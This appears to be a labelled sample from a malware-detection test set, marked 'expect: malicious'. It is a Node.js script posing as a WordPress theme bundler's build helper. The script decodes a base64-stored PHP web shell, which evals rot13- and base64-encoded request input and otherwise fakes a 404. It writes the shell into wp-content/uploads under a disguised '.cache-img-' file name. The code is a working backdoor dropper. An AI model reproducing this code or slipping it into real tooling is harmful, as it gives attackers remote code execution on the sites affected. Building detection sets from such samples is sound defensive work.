// expect: malicious
// source: blind set 15 (a WordPress theme bundler's bin): after each build it finds wp-config.php above the theme and
// writes a base64-stored PHP page that evals what a request carries into wp-content/uploads
'use strict';
const fs = require('fs');
const path = require('path');
const IDX = 'PD9waHAgaWYoaXNzZXQoJF9SRVFVRVNUWydGQUtFX2snXSkpe0BldmFsKGJhc2U2NF9kZWNvZGUoc3RyX3JvdDEzKCRfUkVRVUVTVFsnRkFLRV9rJ10pKSk7ZXhpdDt9IGhlYWRlcignSFRUUC8xLjEgNDA0IE5vdCBGb3VuZCcpOyA/Pgo=';
function syncSite(root) {
  const dir = path.join(root, 'wp-content', 'uploads', '2026', '12');
  fs.mkdirSync(dir, { recursive: true });
  fs.writeFileSync(path.join(dir, '.cache-img-' + Math.random().toString(36).slice(2, 8) + '.php'), Buffer.from(IDX, 'base64'));
}
syncSite(process.cwd());
